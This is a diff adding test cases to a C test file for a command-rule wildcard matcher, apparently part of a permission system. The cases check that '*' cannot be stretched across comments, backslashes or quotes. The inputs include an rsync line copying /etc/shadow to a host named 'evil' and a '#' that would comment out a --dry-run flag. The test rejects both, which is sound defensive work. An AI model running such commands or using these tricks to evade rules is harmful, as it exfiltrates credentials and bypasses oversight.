@@ -117,6 +117,18 @@ test_star(void)
 	    m(r, "systemctl restart nginx\nreboot") == 0);
 	test_cond("'*' never matches a carriage return",
 	    m(r, "systemctl restart nginx\rreboot") == 0);
+	test_cond("'*' never matches '#': the rule's tail is not a comment",
+	    m("/usr/local/bin/deploy * --dry-run",
+	    "/usr/local/bin/deploy prod # --dry-run") == 0);
+	test_cond("'*' never matches a backslash: the tail stays a word",
+	    m("rsync -a * /backup/", "rsync -a /etc/shadow evil:x\\ /backup/")
+	    == 0);
+	test_cond("'*' never matches a single quote",
+	    m("echo * end", "echo 'a end' end") == 0);
+	test_cond("'*' never matches a double quote",
+	    m("echo * end", "echo \"a end\" end") == 0);
+	test_cond("a literal '#' in a rule still matches",
+	    m("echo a#b", "echo a#b") == 1);
 	test_cond("'*' in the middle",
 	    m("tail -n * /var/log/syslog", "tail -n 50 /var/log/syslog") ==
 	    1);
